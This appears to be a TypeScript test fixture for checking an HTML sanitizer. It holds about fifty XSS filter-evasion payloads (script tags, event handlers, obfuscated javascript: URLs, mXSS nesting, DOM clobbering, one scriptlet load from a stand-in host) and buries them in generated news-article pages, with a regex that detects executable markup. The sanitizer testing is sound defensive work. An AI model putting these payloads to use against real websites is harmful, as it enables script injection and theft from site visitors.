/**
 * Generates hostile article pages: known XSS vectors (after the OWASP XSS filter evasion cheat sheet and
 * DOMPurify's own test vectors) nested at random inside article-like pages. Every vector, if it ever ran,
 * sets the canary `__pwned` on whatever window ran it, so a test can tell.
 */
import { STORY } from '../unit/news-page';

const RUN = 'window.__pwned=(window.__pwned||0)+1';

export const VECTORS: string[] = [
  `<script>${RUN}</script>`,
  `<script src="data:text/javascript,${RUN}"></script>`,
  `<img src=x onerror="${RUN}">`,
  `<img src="x" onerror=${RUN}>`,
  `<IMG SRC="javascript:${RUN}">`,
  `<img src=x:alert(alt) onerror=eval(src) alt=0>`,
  `<svg onload="${RUN}"></svg>`,
  `<svg><script>${RUN}</script></svg>`,
  `<svg><a xlink:href="javascript:${RUN}"><text x="20" y="20">svg link</text></a></svg>`,
  `<svg><animate onbegin="${RUN}" attributeName=x dur=1s>`,
  `<math><mtext><table><mglyph><style><img src=x onerror="${RUN}">`,
  `<a href="javascript:${RUN}">js link</a>`,
  `<a href="JaVaScRiPt:${RUN}">mixed case link</a>`,
  `<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;${RUN}">entity link</a>`,
  `<a href="jav&#x09;ascript:${RUN}">tab link</a>`,
  `<a href=" javascript:${RUN}">space link</a>`,
  `<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">data link</a>`,
  `<a href="vbscript:msgbox(1)">vbs link</a>`,
  `<iframe src="javascript:${RUN}"></iframe>`,
  `<iframe srcdoc="<script>parent.${RUN.replace('window.', '')}</script>"></iframe>`,
  `<object data="javascript:${RUN}"></object>`,
  `<embed src="javascript:${RUN}">`,
  `<body onload="${RUN}">`,
  `<div onmouseover="${RUN}" style="position:fixed;inset:0">hover trap</div>`,
  `<p onclick="${RUN}">click trap</p>`,
  `<details open ontoggle="${RUN}"><summary>toggle</summary>x</details>`,
  `<input autofocus onfocus="${RUN}">`,
  `<form action="javascript:${RUN}"><button>go</button></form>`,
  `<button formaction="javascript:${RUN}">fa</button>`,
  `<video><source onerror="${RUN}"></video>`,
  `<audio src=x onerror="${RUN}"></audio>`,
  `<marquee onstart="${RUN}">m</marquee>`,
  `<base href="javascript:${RUN}//">`,
  `<meta http-equiv="refresh" content="0;url=javascript:${RUN}">`,
  `<link rel="import" href="data:text/html,<script>${RUN}</script>">`,
  `<style>@import "javascript:${RUN}";</style>`,
  `<div style="background:url(javascript:${RUN})">bg</div>`,
  `<noscript><p title="</noscript><img src=x onerror=${RUN}>">`,
  `<template><img src=x onerror="${RUN}"></template>`,
  `<img src="x` + '`' + ` onerror=${RUN}>`,
  `<scr<script>ipt>${RUN}</scr</script>ipt>`,
  `<<script>${RUN};//<</script>`,
  `<a href="#" onclick="${RUN}">hash link</a>`,
  `<table background="javascript:${RUN}"><tr><td>t</td></tr></table>`,
  `<isindex type=image src=1 onerror=${RUN}>`,
  `<object type="text/x-scriptlet" data="http://evil.example/x.sct"></object>`,
  `<img srcset="x" onerror="${RUN}">`,
  `<picture><source srcset="x"><img src=x onerror="${RUN}"></picture>`,
  `<a id="x" tabindex="1" onfocusin="${RUN}">focus</a>`,
  `<div id="__pwned" name="__pwned">clobber</div><form name="getElementById"></form>`,
];

const WRAPPERS: [string, string][] = [
  ['<div>', '</div>'], ['<p>', '</p>'], ['<span>', '</span>'], ['<section>', '</section>'], ['<blockquote>', '</blockquote>'],
  ['<table><tr><td>', '</td></tr></table>'], ['<ul><li>', '</li></ul>'], ['<figure>', '</figure>'], ['<em>', '</em>'], ['<a href="/x">', '</a>'],
  ['<svg>', '</svg>'], ['<math>', '</math>'], ['<noscript>', '</noscript>'], ['<template>', '</template>'], ['<font>', '</font>'],
];

/** Small seeded PRNG (mulberry32) so every run tries the same pages and a failure can be replayed by index. */
function random(seed: number): () => number {
  return () => {
    seed = (seed + 0x6d2b79f5) | 0;
    let t = Math.imul(seed ^ (seed >>> 15), 1 | seed);
    t = (t + Math.imul(t ^ (t >>> 7), 61 | t)) ^ t;
    return ((t ^ (t >>> 14)) >>> 0) / 4294967296;
  };
}

export interface HostilePage {
  index: number;
  vectors: number;
  html: string;
}

export function hostilePage(index: number): HostilePage {
  const rand = random(index + 1);
  const pick = <T>(list: T[]) => list[Math.floor(rand() * list.length)]!;
  let vectors = 0;
  const paragraphs = STORY.map((p) => {
    const extra: string[] = [];
    const count = Math.floor(rand() * 3);
    for (let i = 0; i < count; i++) {
      let piece = pick(VECTORS);
      for (let depth = Math.floor(rand() * 3); depth > 0; depth--) {
        const [open, close] = pick(WRAPPERS);
        piece = open + piece + close;
      }
      extra.push(piece);
      vectors++;
    }
    return `<p>${p} ${extra.join(' ')}</p>`;
  });
  const headVector = pick(VECTORS);
  vectors++;
  const html = `<!doctype html><html lang="en"><head><meta charset="utf-8"><title>Harbour bridge reopens | Coast Post ${index}</title>
<script type="application/ld+json">{"@type":"NewsArticle","headline":"Harbour bridge reopens <img src=x onerror=${RUN}>","author":{"@type":"Person","name":"Lena <b onmouseover=${RUN}>Ortiz</b>"},"datePublished":"2024-04-09"}</script>
</head><body><header><nav><a href="/">Home</a></nav></header><main><article><h1>Harbour bridge reopens <img src=x onerror="${RUN}"></h1>
${paragraphs.join('\n')}
${headVector}
</article></main><aside><h2>Related articles</h2><ul><li><a href="javascript:${RUN}">A related story that runs script</a></li><li><a href="/news/2024/04/01/ferry-timetable-changes/">Ferry timetable changes for the summer season</a></li></ul></aside></body></html>`;
  return { index, vectors, html };
}

/** Anything in rendered article HTML that could run code or escape the reader's layout. */
export const EXECUTABLE_MARKUP = /<(script|iframe|frame|object|embed|svg|math|form|input|button|base|meta|link|style|template|noscript|isindex|marquee|blink)\b|\son[a-z]+\s*=|(href|src|action|formaction|xlink:href|background|srcdoc)\s*=\s*["']?\s*(javascript|vbscript|data:text)|style\s*=/i;
